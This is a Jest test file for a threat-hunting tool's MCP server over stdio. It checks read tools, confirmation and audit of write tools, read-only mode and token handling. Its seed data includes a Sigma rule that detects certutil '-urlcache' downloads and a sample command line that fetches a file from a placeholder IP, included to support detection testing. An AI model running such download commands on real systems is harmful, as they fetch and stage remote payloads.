import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { MCP_HIGH_RISK_TOOLS, MCP_LOW_RISK_TOOLS, MCP_READ_TOOLS } from '@huntforge/contracts/mcp';
import { createDb, migrateDb, type Db } from '@huntforge/data';
import type { ServiceModule } from '@huntforge/platform';
import { createMcpModule, hashToken } from '@huntforge/service-mcp';
import {
  createArticle,
  createExecution,
  createQueueItem,
  createSource,
  startServiceForTest,
  type ServiceUnderTest,
} from '@huntforge/service-testing';
import { analyseRuleText } from '@huntforge/sigma';
import { repoRoot, runCli } from '../../test-support/processes';

jest.setTimeout(120_000);

const RULE = `title: Certutil Download
id: 7b7b7b7b-0000-4000-8000-000000000001
status: test
author: Stdio Test Author
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    Image|endswith: '\\certutil.exe'
    CommandLine|contains: ' -urlcache '
  condition: selection
level: high
`;

/** A little of everything the read tools look at, written straight to the database. */
async function seed(db: Db): Promise<{ articleId: number; executionId: number; queueId: number }> {
  const source = await createSource(db.prisma, { identifier: 'stdio-src', name: 'Stdio Source' });
  const article = await createArticle(db.prisma, {
    sourceId: source.id,
    title: 'Attackers download tools with certutil',
    content: 'The intruders ran certutil.exe -urlcache -split -f to fetch a loader.',
    huntScore: 70,
  });
  const execution = await createExecution(db.prisma, article.id, {
    status: 'completed',
    corpusCoverage: { corpus_rules: 1, covered: [], uncovered: ['cmdline: certutil -urlcache -f http://198.51.100.2/a a'] },
  });
  const analysed = analyseRuleText(RULE);
  if (!analysed.ok) throw new Error(analysed.reason);
  await db.prisma.sigmaReferenceRule.create({
    data: {
      ruleId: '7b7b7b7b-0000-4000-8000-000000000001',
      path: 'rules/windows/certutil.yml',
      title: 'Certutil Download',
      author: 'Stdio Test Author',
      yaml: RULE,
      contentHash: 'rule-hash',
      telemetryClass: analysed.atoms.telemetryClass,
      logsource: { product: 'windows', category: 'process_creation' },
      atoms: {
        create: analysed.atoms.positive.map((atom) => ({ atom, polarity: 'positive', telemetryClass: analysed.atoms.telemetryClass })),
      },
    },
  });
  const queued = await createQueueItem(db.prisma, {
    ruleYaml: RULE,
    title: 'Certutil Download (generated)',
    workflowExecutionId: execution.id,
  });
  return { articleId: article.id, executionId: execution.id, queueId: queued.id };
}

/** Arguments that make each read tool do real work on the seeded rows. */
function readArguments(ids: { articleId: number; executionId: number; queueId: number }): Record<string, Record<string, unknown>> {
  return {
    search_articles: { query: 'certutil' },
    get_article: { article_id: ids.articleId },
    search_sigma_rules: { query: 'certutil' },
    get_sigma_rule: { rule_id: '7b7b7b7b-0000-4000-8000-000000000001' },
    find_similar_sigma_rules: { yaml: RULE },
    list_sources: {},
    list_workflow_executions: {},
    get_workflow_execution: { execution_id: ids.executionId },
    get_execution_stix: { execution_id: ids.executionId },
    get_article_coverage: { article_id: ids.articleId },
    list_sigma_queue: {},
    get_queue_item: { queue_id: ids.queueId },
    get_stats: {},
    list_tables: {},
    describe_table: { table: 'sources' },
    query_sql: { sql: 'SELECT count(*) AS n FROM articles' },
    my_requests: {},
    validate_sigma_rule: { yaml: RULE },
    convert_sigma_rule: { yaml: RULE },
    article_keywords: { article_id: ids.articleId },
    search_unified: { query: 'certutil' },
    wait_for_execution: { execution_id: ids.executionId, timeout_seconds: 1 },
  };
}

function cliTransport(args: string[], env: Record<string, string>): StdioClientTransport {
  return new StdioClientTransport({
    command: process.execPath,
    args: ['--import', 'tsx', join(repoRoot, 'apps/cli/src/main.ts'), 'mcp', '--stdio', ...args],
    cwd: repoRoot,
    env: { PATH: process.env['PATH'] ?? '', HOME: process.env['HOME'] ?? '', LOG_LEVEL: 'warn', ...env },
    stderr: 'pipe',
  });
}

describe('huntforge mcp --stdio (official SDK client over stdio)', () => {
  let dataDir: string;
  let ids: { articleId: number; executionId: number; queueId: number };

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'huntforge-mcp-stdio-'));
    const db = await createDb({ dataDir });
    try {
      await migrateDb(db);
      ids = await seed(db);
    } finally {
      await db.close();
    }
  });
  afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

  it('lists every tool and calls each read tool against the database; writes are scoped and audited', async () => {
    const client = new Client({ name: 'stdio-test', version: '1.0.0' });
    await client.connect(cliTransport([], { DATA_DIR: dataDir }));
    try {
      // Nowhere to run a write at once (no service URLs, no MCP_API_URL): those tools are left out, and the client is told.
      const { tools } = await client.listTools();
      expect(tools.map((tool) => tool.name).sort()).toEqual([...MCP_READ_TOOLS, ...MCP_HIGH_RISK_TOOLS].sort());
      expect(client.getInstructions()).toContain('MCP_API_URL');

      const args = readArguments(ids);
      for (const name of MCP_READ_TOOLS) {
        const result = (await client.callTool({ name, arguments: args[name] })) as CallToolResult;
        expect({ name, isError: result.isError ?? false }).toEqual({ name, isError: false });
        expect(result.structuredContent).toBeDefined();
      }
      const similar = (await client.callTool({
        name: 'find_similar_sigma_rules',
        arguments: args['find_similar_sigma_rules'],
      })) as CallToolResult;
      expect(similar.structuredContent).toMatchObject({
        items: [expect.objectContaining({ similarity: 1, attribution: expect.objectContaining({ author: 'Stdio Test Author' }) })],
      });

      // A high-risk write only files a confirmation request.
      const pending = (await client.callTool({ name: 'delete_article', arguments: { article_id: ids.articleId } })) as CallToolResult;
      expect(pending.structuredContent).toMatchObject({
        status: 'pending_confirmation',
        confirmation: { tool: 'delete_article', status: 'pending' },
      });
    } finally {
      await client.close();
    }

    const db = await createDb({ dataDir });
    try {
      const audit = await db.prisma.auditEvent.findMany({ where: { type: 'mcp.tool_call' } });
      expect(audit).toHaveLength(MCP_READ_TOOLS.length + 2);
      expect(audit.every((row) => row.actor?.startsWith('stdio:') && (row.payload as { transport?: string }).transport === 'stdio')).toBe(
        true,
      );
      expect(audit.filter((row) => row.outcome === 'pending_confirmation').map((row) => row.tool)).toEqual(['delete_article']);
      expect(await db.prisma.article.count()).toBe(1);
    } finally {
      await db.close();
    }
  });

  it('offers the immediate writes when MCP_API_URL names a gateway to run them on', async () => {
    const client = new Client({ name: 'stdio-test', version: '1.0.0' });
    await client.connect(cliTransport([], { DATA_DIR: dataDir, MCP_API_URL: 'http://127.0.0.1:9' }));
    try {
      const { tools } = await client.listTools();
      expect(tools.map((tool) => tool.name).sort()).toEqual([...MCP_READ_TOOLS, ...MCP_LOW_RISK_TOOLS, ...MCP_HIGH_RISK_TOOLS].sort());
      expect(client.getInstructions()).not.toContain('MCP_API_URL');
    } finally {
      await client.close();
    }
  });

  it('shows only read tools with --read-only', async () => {
    const client = new Client({ name: 'stdio-test', version: '1.0.0' });
    await client.connect(cliTransport(['--read-only'], { DATA_DIR: dataDir }));
    try {
      const { tools } = await client.listTools();
      expect(tools.map((tool) => tool.name).sort()).toEqual([...MCP_READ_TOOLS].sort());
    } finally {
      await client.close();
    }
  });

  it('explains what to do when a running server holds the embedded database', () => {
    mkdirSync(join(dataDir, 'pglite'), { recursive: true });
    writeFileSync(join(dataDir, 'pglite.lock'), String(process.pid));
    try {
      const result = runCli(['mcp', '--stdio'], { DATA_DIR: dataDir });
      expect(result.status).toBe(1);
      expect(result.stderr).toContain(`in use by process ${process.pid}`);
      expect(result.stderr).toContain('huntforge mcp --stdio --url');
    } finally {
      rmSync(join(dataDir, 'pglite.lock'));
    }
  });

  it('refuses an unknown token and --url without a token', () => {
    const unknown = runCli(['mcp', '--stdio', '--token', 'hf_notarealtokennotarealtoken123'], { DATA_DIR: dataDir });
    expect(unknown.status).toBe(1);
    expect(unknown.stderr).toContain('unknown or revoked');
    const noToken = runCli(['mcp', '--stdio', '--url', 'http://127.0.0.1:9'], { DATA_DIR: dataDir });
    expect(noToken.status).toBe(1);
    expect(noToken.stderr).toContain('--url needs an API token');
  });
});

describe('huntforge mcp --stdio --url (relay to a running server)', () => {
  let mcp: ServiceUnderTest<ServiceModule>;
  let url: string;
  let token: string;

  beforeAll(async () => {
    mcp = await startServiceForTest('mcp', (ctx) => createMcpModule(ctx, { env: {} }), { listen: true });
    url = mcp.url as string;
    token = `hf_${randomBytes(24).toString('base64url')}`;
    await mcp.ctx.db.repos.apiTokens.create({
      name: 'relay-viewer',
      role: 'viewer',
      tokenHash: hashToken(token),
      prefix: token.slice(0, 7),
    });
  });
  afterAll(() => mcp.close());

  it('relays tools/list and tools/call, scoped and audited by the server as the token', async () => {
    const client = new Client({ name: 'relay-test', version: '1.0.0' });
    await client.connect(cliTransport(['--url', url], { HUNTFORGE_TOKEN: token }));
    try {
      const { tools } = await client.listTools();
      expect(tools.map((tool) => tool.name).sort()).toEqual([...MCP_READ_TOOLS].sort());
      const stats = (await client.callTool({ name: 'get_stats', arguments: {} })) as CallToolResult;
      expect(stats.structuredContent).toMatchObject({ articles: { total: 0 } });
    } finally {
      await client.close();
    }
    const audit = await mcp.ctx.db.prisma.auditEvent.findMany({ where: { tool: 'get_stats' } });
    expect(audit).toEqual([expect.objectContaining({ actor: 'token:relay-viewer', outcome: 'ok' })]);
  });

  it('answers the client with an error when the server refuses the token', async () => {
    const client = new Client({ name: 'relay-test', version: '1.0.0' });
    const connecting = client.connect(cliTransport(['--url', url, '--token', 'hf_wrongwrongwrongwrongwrong'], {}));
    await expect(connecting).rejects.toThrow(/refused or did not answer/);
    await client.close();
  });
});
